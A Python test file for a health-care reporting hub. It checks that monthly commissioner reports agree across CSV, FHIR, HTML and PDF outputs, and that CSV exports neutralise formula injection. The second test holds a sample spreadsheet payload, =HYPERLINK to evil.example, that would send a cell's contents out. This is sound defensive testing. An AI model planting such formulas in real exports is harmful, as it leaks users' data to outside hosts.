"""Every report format (CSV, CSV tables, FHIR MeasureReport, HTML, PDF) shows the worked
example's counts, and an imported name is text in the CSV, never a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from hub.reports.render_csv import render_csv
from hub.reports.render_fhir import measure_report
from hub.reports.render_html import render_document
from hub.reports.render_pdf import render_pdf
from hub.reports.render_tables import render_tables
from hub.storage.engine import Database
from schemas.imports import ImportKind
from schemas.reports import MonthlyReport
from support.reports import (
    AVOIDED,
    BED_DAYS,
    CALLS_TOTAL,
    MONEY_GP_CLAIMED,
    MONEY_TOTAL,
    NOT_RECORDED,
    SITE_AVOIDED,
    SITE_CALLS,
    assert_page_one_is_not_blank,
    load_worked_example,
    monthly_report,
    pdf_text,
    read_tables,
    run_import,
)
from support.world import World


async def test_every_format_shows_the_same_counts(worked: MonthlyReport, tmp_path: Path) -> None:
    # CSV: one figure per row.
    rows = list(csv.DictReader(io.StringIO(render_csv(worked))))
    figures = {(r["section"], r["site_ods"], r["item"]): r["value"] for r in rows}
    for measure, counts in AVOIDED.items():
        for name, value in counts.items():
            assert figures[("totals", "", f"avoided.{measure}.{name}")] == str(value)
    for ods, per_site in SITE_AVOIDED.items():
        assert figures[("sites", ods, "calls")] == str(SITE_CALLS[ods])
        assert figures[("sites", ods, "avoided.admission.confirmed")] == str(
            per_site["admission"]["confirmed"]
        )
    assert figures[("money", "", "total_gbp")] == MONEY_TOTAL
    assert figures[("money", "", "claimed_basis_gbp")] == MONEY_GP_CLAIMED

    # CSV tables: one per section, a row per home (per month for the trend), measures as
    # columns (issue 17 item 14).
    tables = read_tables(render_tables(worked))
    sites = {r["site_ods"]: r for r in tables["sites"]}
    assert set(sites) == {*SITE_CALLS, ""}  # every home, and the area's "All sites" row
    for ods, per_site in SITE_AVOIDED.items():
        assert sites[ods]["calls"] == str(SITE_CALLS[ods])
        for measure, counts in per_site.items():
            for name, value in counts.items():
                assert sites[ods][f"{measure}_{name}"] == str(value), (ods, measure, name)
    area = sites[""]
    assert area["site_name"] == "All sites" and area["calls"] == str(CALLS_TOTAL)
    assert area["admission_confirmed"] == "3" and area["bed_days_avoided"] == BED_DAYS
    assert sites["VHOMA"]["month"] == "2026-10" and sites["VHOMA"]["beds"] == "40"
    trend = [r for r in tables["trend"] if r["site_ods"] == "VHOMA"]
    assert len(trend) == 22  # January 2025 (go-live) to October 2026
    assert {r["month"]: r["calls"] for r in trend}["2026-10"] == "12.0"
    (calls,) = tables["calls"]
    assert (calls["calls"], calls["clinical"], calls["median_answer_seconds"]) == (
        "17",
        "16",
        "110.0",
    )
    assert tables["dispositions"][0]["managed_in_place"] == "7"
    assert tables["by_hour"][0]["h01"] == "2"
    assert tables["money"][0]["total_confirmed_gbp"] == MONEY_TOTAL
    assert tables["money"][0]["gp_contact_gbp"] == MONEY_GP_CLAIMED
    assert [p["calls"] for p in tables["periods"]] == ["17", "1", "18"]
    ed_a = next(
        r
        for r in tables["hospital_activity"]
        if (r["site_ods"], r["measure"]) == ("VHOMA", "ed_attendances")
    )
    assert (ed_a["events_before"], ed_a["events_after"]) == ("30", "18")
    assert float(ed_a["rate_ratio"]) == pytest.approx(0.6)

    # FHIR MeasureReport (R4 shape), validated by fhir.resources.
    fhir = json.loads(measure_report(worked, base_url="https://hub.example/").model_dump_json())
    assert fhir["resourceType"] == "MeasureReport" and fhir["type"] == "summary"
    assert fhir["period"] == {"start": "2026-10-01", "end": "2026-10-31"}
    groups = {g["code"]["coding"][0]["code"]: g for g in fhir["group"]}
    for measure, counts in AVOIDED.items():
        found = {p["code"]["coding"][0]["code"]: p["count"] for p in groups[measure]["population"]}
        assert found["numerator"] == counts["claimed"]
        assert found["initial-population"] == CALLS_TOTAL - NOT_RECORDED
        for name in ("confirmed", "unverified", "refuted"):
            if name in counts:
                assert found[name] == counts[name]
    assert groups["calls"]["population"][0]["count"] == CALLS_TOTAL
    sites = {
        s["value"]["coding"][0]["code"]: s for s in groups["admission"]["stratifier"][1]["stratum"]
    }
    numerator = {p["code"]["coding"][0]["code"]: p["count"] for p in sites["VHOMA"]["population"]}[
        "numerator"
    ]
    assert numerator == SITE_AVOIDED["VHOMA"]["admission"]["claimed"]

    # HTML document and PDF text.
    html = render_document(worked)
    assert '<tr class="nhsuk-table__row" data-measure="admission">' in html
    assert '<td class="nhsuk-table__cell">5</td><td class="nhsuk-table__cell">3</td>' in html
    assert "£22,502.70" in html and "<svg" in html
    assert "3 claimed" in html and "£204.90" in html and "£22,707.60" in html
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(render_pdf(worked))
    text = pdf_text(pdf)
    assert "Commissioner A: October 2026" in text
    assert "£22,502.70" in text and "23.7" in text
    assert "£204.90" in text and "£22,707.60" in text
    assert "3 of 5 claimed" in text  # admissions confirmed of claimed
    assert_page_one_is_not_blank(pdf)


async def test_a_formula_in_an_imported_name_is_text_in_the_csv(
    db: Database, world: World, tmp_path: Path
) -> None:
    """A site imported as =HYPERLINK(...) reaches the CSV as text, never as a formula."""
    await load_worked_example(db)
    sites = tmp_path / "sites.csv"
    name = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
    sites.write_text(
        "site_ods,name,site_kind,beds,commissioner_ods,go_live\n"
        f'VEVL1,"{name.replace(chr(34), chr(34) * 2)}",care_home_residential,10,QAA,2026-06-01\n'
    )
    summary = await run_import(db, ImportKind.SITES, sites)
    assert summary.written, summary.errors
    report = await monthly_report(db, commissioner="QAA")
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    names = {
        r["site_ods"]: r["value"] for r in rows if r["section"] == "sites" and r["item"] == "name"
    }
    assert names["VEVL1"] == "'" + name
    tables = read_tables(render_tables(report))
    assert {r["site_ods"]: r["site_name"] for r in tables["sites"]}["VEVL1"] == "'" + name
    starts = ("=", "+", "-", "@", "\t", "\r")
    cells = [v for r in rows for v in r.values()]
    assert not [
        v for v in cells if v.startswith(starts) and not v.lstrip("-").replace(".", "").isdigit()
    ]
